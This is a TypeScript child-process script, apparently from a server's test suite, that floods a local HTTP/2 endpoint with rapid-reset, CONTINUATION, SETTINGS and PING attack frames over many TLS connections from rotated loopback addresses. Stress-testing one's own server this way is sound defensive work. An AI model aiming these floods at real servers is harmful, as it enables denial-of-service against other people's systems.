/**
 * A process of clients that flood connections of HTTP/2, as the attacks that have names do, from the first message of its parent on:
 * `http2-flood-program.ts KIND PORT COUNT`. Whose connection is ended comes again, all together at a bounded pace, since what a
 * handshake of TLS costs is another question.
 */
import { connect as connectPlain } from 'node:net';
import { connect } from 'node:tls';
import type { TLSSocket } from 'node:tls';
import {
  flag,
  frame,
  frameType,
  headerBlock,
  ping,
  preface,
  request,
  requestFields,
  reset,
  settingsFrame,
} from '../test/support/http2-frames.ts';

/** Bytes of the attack that go out as one write; the next when they are gone. */
type Attack = (round: number) => Buffer;

const perWrite = 100;
const comebacksPerSecond = 50;
const addresses = Array.from({ length: 100 }, (_, i) => `127.0.1.${i + 1}`);
const block = headerBlock(requestFields('/ct-health/', ['ctstickiness', 'flood']));
const more = headerBlock([['x-more', 'a'.repeat(1_000)]]);

function repeat(make: (i: number) => Buffer): Attack {
  return (round) => Buffer.concat(Array.from({ length: perWrite }, (_, i) => make(round * perWrite + i)));
}

const attacks: Readonly<Record<string, Attack>> = {
  'rapid-reset': repeat((i) => {
    const stream = 1 + 2 * i;
    return Buffer.concat([
      request(stream, requestFields('/ct-health/', ['ctstickiness', 'flood'])),
      reset(stream),
    ]);
  }),
  continuation: (round) =>
    Buffer.concat([
      ...(round === 0 ? [frame(frameType.headers, flag.endStream, 1, block)] : []),
      repeat(() => frame(frameType.continuation, 0, 1, more))(round),
    ]),
  settings: repeat(() => settingsFrame([[4, 65_535]])),
  ping: repeat(() => ping()),
};

const [kind = '', port, count] = process.argv.slice(2);
const attack = attacks[kind]!;
/** Full handshakes would cost us as much as them. */
let session: Buffer | undefined;
let waiting = 0;

process.on('disconnect', () => process.exit());
process.once('message', () => {
  waiting = Number(count);
  setInterval(() => {
    if (waiting === 0) return;
    waiting--;
    open();
  }, 1_000 / comebacksPerSecond);
});
process.send!('ready');

function open(): void {
  const localAddress = addresses[Math.floor(Math.random() * addresses.length)]!;
  const socket = connect({
    socket: connectPlain({ host: '127.0.0.1', port: Number(port), localAddress }),
    rejectUnauthorized: false,
    ALPNProtocols: ['h2'],
    ...(session === undefined ? {} : { session }),
  });
  socket.on('session', (ticket: Buffer) => (session = ticket));
  socket.on('error', () => socket.destroy());
  socket.once('close', () => waiting++);
  socket.once('end', () => socket.destroy());
  socket.resume();
  socket.once('secureConnect', () => {
    socket.write(Buffer.concat([preface, settingsFrame([])]));
    send(socket, 0);
  });
}

function send(socket: TLSSocket, round: number): void {
  if (socket.destroyed) return;
  socket.write(attack(round), () => setImmediate(() => send(socket, round + 1)));
}
